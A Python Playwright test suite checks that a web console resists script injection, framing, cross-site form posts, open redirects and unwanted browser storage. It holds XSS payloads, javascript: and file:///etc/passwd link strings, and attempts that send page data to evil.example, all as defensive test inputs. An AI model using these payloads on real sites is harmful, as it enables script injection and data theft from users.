"""What a page of the console can be made to do by whoever writes into it, links to it, frames it or posts from elsewhere: nothing."""

import json
import re
import urllib.error
import urllib.parse
import urllib.request

import pytest
from playwright.sync_api import expect

from conftest import NARROW, WIDE, hold_within, settled
from support.network import problem
from support.stranger import Stranger
from support.waiting import wait_until

POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; "
    "frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
)

IMAGE = "<img src=x onerror=alert(1)>"
SCRIPT = "\"><script>alert(1)</script>"
TEMPLATE = "{{7*7}} ${7*7} javascript:alert(1)"
ARABIC = "مفتاح الدفع العربي"
EMOJI = "👩‍👩‍👧‍👦 🔥 Zürich ﷽"
LONG = "W" * 200
HOSTILE = [IMAGE, SCRIPT, TEMPLATE, ARABIC, EMOJI, LONG]


@pytest.fixture(scope="module")
def stranger():
    stranger = Stranger()
    yield stranger
    stranger.close()


@pytest.fixture(scope="module")
def acme(world):
    """A tenant in which all that people can write is hostile, and its admin."""
    tenant, admin = world.admin(name=IMAGE)
    # A person's name is chosen by themselves.
    other = world.person(tenant, "MEMBER", name=SCRIPT)
    under = f"/v1/tenants/{tenant['id']}"
    groups = [world.group(tenant, name) for name in HOSTILE[:3]]
    keys = [world.key(tenant, name, description=f"About {name}", authorization_group_id=groups[0]["id"])["key"] for name in HOSTILE]
    world.as_staff("POST", f"{under}/keys/{keys[1]['id']}/revoke", {"reason": IMAGE})
    webhook = world.as_staff("POST", f"{under}/webhook-endpoints", {"url": "http://127.0.0.1:9/%3Cscript%3E", "events": ["api_key.created"], "description": SCRIPT})
    world.ask(admin, "POST", f"{under}/limit-requests", {"requested_limit": 40, "reason": IMAGE})
    return {"tenant": tenant, "admin": admin, "other": other, "groups": groups, "keys": keys, "webhook": webhook}


# Headers, and what the browser makes of them


@pytest.mark.parametrize("path", ["/", "/sign-in", "/tenants/x/keys", "/no/such/page"])
def test_every_page_comes_with_the_strictest_policy(server, path):
    request = urllib.request.Request(server.url + path, headers={"Accept": "text/html"})
    try:
        headers = urllib.request.urlopen(request).headers
    except urllib.error.HTTPError as error:
        headers = error.headers
    assert headers["Content-Security-Policy"] == POLICY
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert "camera=()" in headers["Permissions-Policy"]
    assert "no-store" in headers["Cache-Control"]
    assert headers["Access-Control-Allow-Origin"] is None


# What is tried on our own page, and the rule of the policy by which the browser refuses it. Timers, since what a debugger
# evaluates is free of the policy.
ATTEMPTS = {
    "an inline script": ("require-trusted-types-for", "const e = document.createElement('script'); e.append('window.broken = 1'); document.body.append(e)"),
    "an inline script by text": ("require-trusted-types-for", "document.createElement('script').text = 'window.broken = 1'"),
    "eval": ("require-trusted-types-for", "eval('window.broken = 1')"),
    "a function from a text": ("require-trusted-types-for", "new Function('window.broken = 1')()"),
    "innerHTML": ("require-trusted-types-for", "document.body.innerHTML = '<p>'"),
    "insertAdjacentHTML": ("require-trusted-types-for", "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.broken=1>')"),
    "a policy of one's own": ("trusted-types", "trustedTypes.createPolicy('default', { createHTML: (text) => text })"),
    "a handler as an attribute": ("require-trusted-types-for", "document.body.setAttribute('onclick', 'window.broken = 1'); document.body.click()"),
    "a style attribute": ("style-src-attr", "document.body.setAttribute('style', 'color: red')"),
    "an inline style sheet": ("style-src-elem", "const e = document.createElement('style'); e.append('body { color: red }'); document.head.append(e)"),
    "a script from elsewhere": ("require-trusted-types-for", "document.createElement('script').src = 'https://evil.example/x.js'"),
    "an import from elsewhere": ("script-src-elem", "import('https://evil.example/x.js').catch(() => {})"),
    "an image from elsewhere": ("img-src", "new Image().src = 'https://evil.example/x.png?' + document.title"),
    "a request elsewhere": ("connect-src", "fetch('https://evil.example/').catch(() => {})"),
    "a beacon elsewhere": ("connect-src", "navigator.sendBeacon('https://evil.example/', 'x')"),
    "a frame": ("frame-src", "const e = document.createElement('iframe'); e.src = '/'; document.body.append(e)"),
    "another base": ("base-uri", "const e = document.createElement('base'); e.href = 'https://evil.example/'; document.head.append(e)"),
    "a form that goes somewhere": ("form-action", "const e = document.createElement('form'); e.action = 'https://evil.example/'; document.body.append(e); e.submit()"),
}


def test_the_browser_refuses_whatever_injected_code_would_do(visits):
    visits.expect_complaint("Content Security Policy|Trusted|unsafe-eval|Refused|violates")
    page = visits.open("/sign-in")
    address = page.url
    attempts = ", ".join(f"{json.dumps(name)}: [{json.dumps(directive)}, () => {{ {code} }}]" for name, (directive, code) in ATTEMPTS.items())
    told = page.evaluate("async () => { const attempts = {" + attempts + """};
      const told = {};
      for (const [name, [directive, attempt]] of Object.entries(attempts)) {
        const seen = told[name] = [];
        await new Promise((resolve) => {
          const deadline = setTimeout(resolve, 20_000);
          document.addEventListener("securitypolicyviolation", function note({ effectiveDirective }) {
            seen.push(effectiveDirective);
            if (effectiveDirective !== directive) return;
            document.removeEventListener("securitypolicyviolation", note);
            clearTimeout(deadline);
            resolve();
          });
          setTimeout(() => { try { attempt(); } catch {} });
        });
      }
      return told;
    }""")
    for name, (directive, _) in ATTEMPTS.items():
        assert directive in told[name], f"{name}: {told[name]}"
    assert page.evaluate("window.broken") is None
    assert page.evaluate("getComputedStyle(document.body).color") != "rgb(255, 0, 0)"
    assert page.url == address


def test_the_console_is_in_no_frame(visits, stranger, server):
    visits.expect_complaint("frame-ancestors|frame")
    stranger.pages["/frame"] = f"<!doctype html><title>Frame</title><iframe src='{server.url}/sign-in'></iframe>"
    page = visits.open("/sign-in")
    page.goto(stranger.url + "/frame")
    wait_until(lambda: page.frames[1].url.startswith("chrome-error://"), "the frame is refused", page=page)


def test_whoever_opens_the_console_in_a_window_has_no_hold_on_it(visits, stranger, server):
    stranger.pages["/open"] = f"<!doctype html><title>Open</title><button onclick=\"window.other = window.open('{server.url}/sign-in')\">Go</button>"
    page = visits.open("/sign-in")
    page.goto(stranger.url + "/open")
    with page.expect_popup() as popup:
        page.get_by_role("button").click()
    expect(popup.value.get_by_role("heading", name="Sign in")).to_be_visible()
    assert popup.value.evaluate("window.opener") is None
    wait_until(lambda: page.evaluate("window.other.closed"), "the window is out of reach", page=page)


# Posts from elsewhere


def test_a_form_of_another_site_changes_nothing_though_the_cookie_goes_along(visits, stranger, server, acme, world):
    visits.expect_complaint(".")
    tenant, key = acme["tenant"]["id"], acme["keys"][0]["id"]
    under = f"{server.url}/v1/tenants/{tenant}"
    body = json.dumps({"name": "Made by a stranger", "type": "USER", "scopes": ["invoices:read"]})
    half, rest = body[:-1] + ',"x":"', '"}'
    stranger.pages["/form"] = f"""<!doctype html><title>Form</title>
      <form id=a method=post enctype=text/plain action="{under}/authorization-groups"><input name='{half}' value='{rest}'></form>
      <form id=b method=post enctype=text/plain action="{under}/keys/{key}/disable"></form>
      <form id=c method=post action="{under}/keys/{key}/revoke"></form>
      <form id=d method=post enctype=text/plain action="{server.url}/v1/tenants/{tenant}/keys/{key}/disable"><input name='{{"a":"' value='"}}'></form>"""
    page = visits.open("/sign-in", acme["admin"])
    for form in "abcd":
        page.goto(stranger.url + "/form")
        with page.expect_navigation() as navigation:
            page.evaluate(f"document.getElementById('{form}').submit()")
        answer = navigation.value
        assert "latchkey_session" in answer.request.all_headers().get("cookie", ""), "the test is worth nothing without the cookie"
        assert answer.status in (403, 415), f"{form}: {answer.status}"
    page.goto(stranger.url + "/form")
    asked = page.evaluate(
        """async ([under, key, body]) => {
          const send = (path, options) => fetch(under + path, { credentials: "include", ...options }).then(() => "answered", () => "refused");
          return [
            await send("/keys/" + key + "/disable", { method: "POST", mode: "no-cors" }),
            await send("/keys/" + key, { method: "DELETE" }),
            await send("/keys/" + key + "/disable", { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" }),
            await send("/authorization-groups", { method: "POST", headers: { "Content-Type": "application/json" }, body }),
            await send("/keys", {}),
          ];
        }""",
        [under, key, body],
    )
    assert asked[1:] == ["refused"] * 4, "another origin reads nothing, and is refused before it asks"
    assert world.as_staff("GET", f"/v1/tenants/{tenant}/keys/{key}")["status"] == "ACTIVE"
    groups = world.as_staff("GET", f"/v1/tenants/{tenant}/authorization-groups?limit=100")["data"]
    assert all(group["name"] != "Made by a stranger" for group in groups)


# What people write


PLACES = [
    "/tenants/{tenant}/keys", "/tenants/{tenant}/keys/{key0}", "/tenants/{tenant}/keys/{key1}", "/tenants/{tenant}/keys/{key5}", "/tenants/{tenant}/keys/new",
    "/tenants/{tenant}/groups", "/tenants/{tenant}/groups/{group0}", "/tenants/{tenant}/members", "/tenants/{tenant}/webhooks", "/tenants/{tenant}/webhooks/{webhook}",
    "/tenants/{tenant}/audit", "/tenants/{tenant}/limit", "/tenants/{tenant}/settings", "/tenants/{tenant}/usage",
]
# What each of some of them is bound to show.
SHOWN = {
    "/tenants/{tenant}/keys": HOSTILE,
    "/tenants/{tenant}/keys/{key0}": [IMAGE],
    "/tenants/{tenant}/keys/{key1}": [SCRIPT, IMAGE],
    "/tenants/{tenant}/groups": HOSTILE[:3],
    "/tenants/{tenant}/members": [SCRIPT],
    "/tenants/{tenant}/webhooks": [SCRIPT],
    "/tenants/{tenant}/limit": [IMAGE],
}


def where(acme, template):
    ids = {"tenant": acme["tenant"]["id"], "webhook": acme["webhook"]["id"]}
    ids |= {f"key{index}": key["id"] for index, key in enumerate(acme["keys"])}
    ids |= {f"group{index}": group["id"] for index, group in enumerate(acme["groups"])}
    return template.format(**ids)


def hold_harmless(page, dialogs):
    """Nothing that was written has become an element, a link that does something, or a dialog."""
    expect(page.locator("[onerror], img[src='x'], body script, iframe, object, embed, base")).to_have_count(0)
    expect(page.locator("script")).to_have_count(1)
    expect(page.locator("a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i]")).to_have_count(0)
    assert not dialogs


def test_hostile_text_is_text_on_every_page_that_shows_it(visits, acme):
    page = visits.open("/account", acme["admin"])
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for template in PLACES:
        page.goto(where(acme, template))
        settled(page)
        for text in SHOWN.get(template, []):
            expect(page.get_by_text(text).first, f"{text} on {template}").to_be_attached()
        hold_harmless(page, dialogs)
        hold_within(page)
        page.set_viewport_size(NARROW)
        hold_within(page)
        page.set_viewport_size(WIDE)


def test_hostile_text_is_text_on_the_pages_of_platform_staff(visits, acme, world):
    page = visits.open("/tenants", world.staff)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for address in ["/tenants", "/limit-requests", "/audit", "/presets", f"/tenants/{acme['tenant']['id']}/limit", f"/tenants/{acme['tenant']['id']}/settings"]:
        page.goto(address)
        settled(page)
        hold_harmless(page, dialogs)
        hold_within(page)
        page.set_viewport_size(NARROW)
        hold_within(page)
        page.set_viewport_size(WIDE)


def test_a_key_that_is_called_a_script_is_asked_about_by_that_name(visits, acme):
    page = visits.open(where(acme, "/tenants/{tenant}/keys/{key0}"), acme["admin"])
    page.get_by_role("button", name=re.compile("^Revoke")).first.click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(IMAGE)
    hold_harmless(page, [])
    hold_within(page)


def test_what_the_server_says_is_shown_as_text(visits, acme):
    visits.expect_complaint("422|500")
    page = visits.open(where(acme, "/tenants/{tenant}/groups/new"), acme["admin"])
    refusal = problem(422, IMAGE, "X", request_id=SCRIPT, errors=[
        {"pointer": "/name", "code": "X", "detail": IMAGE}, {"pointer": IMAGE, "code": "X", "detail": SCRIPT}])
    page.route("**/authorization-groups", lambda route: route.fulfill(**refusal))
    page.get_by_label("Name").first.fill("Anything")
    for box in page.get_by_role("checkbox").all()[:1]:
        box.check()
    page.get_by_role("button", name=re.compile("^(Create|Save|Make)")).first.click()
    expect(page.get_by_text(IMAGE).first).to_be_visible()
    hold_harmless(page, [])
    page.route("**/keys?**", lambda route: route.fulfill(status=500, content_type="text/html", body=IMAGE))
    page.route("**/keys", lambda route: route.fulfill(status=500, content_type="text/html", body=IMAGE) if "/v1/" in route.request.url else route.continue_())
    page.goto(where(acme, "/tenants/{tenant}/keys"))
    expect(page.get_by_role("button", name="Try again").first).to_be_visible()
    hold_harmless(page, [])


NO_LINKS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "file:///etc/passwd", "//evil.example", "/\\evil.example", "/\t/evil.example", "/\n/evil.example", "\\\\evil.example", "filesystem:x", "view-source:x",
]
LINKS = ["/tenants", "/tenants/x?q=1#top", "#main", "https://hooks.example/path", "http://127.0.0.1:9/"]


def test_what_is_no_address_becomes_no_link(visits):
    page = visits.open("/sign-in")
    made = page.evaluate(
        """async ([addresses]) => {
          const base = document.querySelector("script[src]").src.replace("main.js", "lib/dom.js");
          const { h } = await import(base);
          return addresses.map((href) => h("a", { href }).getAttribute("href"));
        }""",
        [NO_LINKS + LINKS],
    )
    assert made == ["#"] * len(NO_LINKS) + LINKS


# Addresses that lead elsewhere


@pytest.mark.parametrize("address", ["https://evil.example/", "//evil.example", "/\\evil.example", "javascript:alert(1)", "data:text/html,x", "evil.example", "@evil.example", "/sign-in?return=//evil.example"])
def test_signing_in_leads_nowhere_else(visits, server, acme, address):
    visits.expect_complaint("404")
    page = visits.open("/sign-in?" + urllib.parse.urlencode({"return": address}), acme["admin"])
    expect(page).to_have_url(re.compile("^" + re.escape(server.url) + "/(?!sign-in)"))


# What is asked, and what is kept


def test_nothing_is_asked_but_of_this_server_and_with_nothing_but_the_cookie(visits, server, acme):
    page = visits.open("/account", acme["admin"])
    asked = []
    page.on("request", lambda request: asked.append(request))
    for template in PLACES[:6]:
        page.goto(where(acme, template))
        settled(page)
    page.goto(where(acme, "/tenants/{tenant}/groups/new"))
    settled(page)
    page.get_by_label("Name").first.fill("Asked about")
    page.get_by_role("checkbox").first.check()
    page.get_by_role("button", name=re.compile("^(Create|Save|Make)")).first.click()
    expect(page).not_to_have_url(re.compile("/new$"))
    changes = 0
    for request in asked:
        assert request.url.startswith((server.url + "/", "blob:")), request.url
        headers = request.all_headers()
        assert "authorization" not in headers, request.url
        assert not headers.get("referer") or headers["referer"].startswith(server.url), request.url
        if request.method != "GET":
            changes += 1
            assert headers["sec-fetch-site"] == "same-origin", request.url
            assert headers["content-type"] == "application/json", request.url
            assert headers["idempotency-key"], request.url
    assert changes >= 1


# How times are shown, by which organization somebody signs in, and who is signed in.
PREFERENCES = {"latchkey.person": r"usr_\w{26}|nobody", "latchkey.exact-times": "yes", "latchkey.organization": r"ten_\w{26}"}


def test_the_browser_keeps_nothing_but_small_preferences(visits, acme):
    page = visits.open("/account", acme["admin"])
    for template in PLACES[:6]:
        page.goto(where(acme, template))
        settled(page)
    page.get_by_role("button", name=re.compile("Account of")).click()
    page.get_by_role("button", name="Show exact times").click()
    kept = page.evaluate("[...Object.entries(localStorage), ...Object.entries(sessionStorage)]")
    for name, value in kept:
        assert name in PREFERENCES and re.fullmatch(PREFERENCES[name], value), f"{name}: {value}"
    assert ["latchkey.exact-times", "yes"] in kept
    assert page.evaluate("document.cookie") == "", "no script can read it"
    assert page.evaluate("caches.keys()") == []
    assert page.evaluate("indexedDB.databases()") == []
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0


def test_the_sessions_cookie_is_out_of_reach(visits, acme):
    page = visits.open("/account", acme["admin"])
    (cookie,) = [each for each in page.context.cookies() if "latchkey_session" in each["name"]]
    assert cookie["httpOnly"]
    assert cookie["sameSite"] in ("Lax", "Strict")
    assert cookie["path"] == "/"
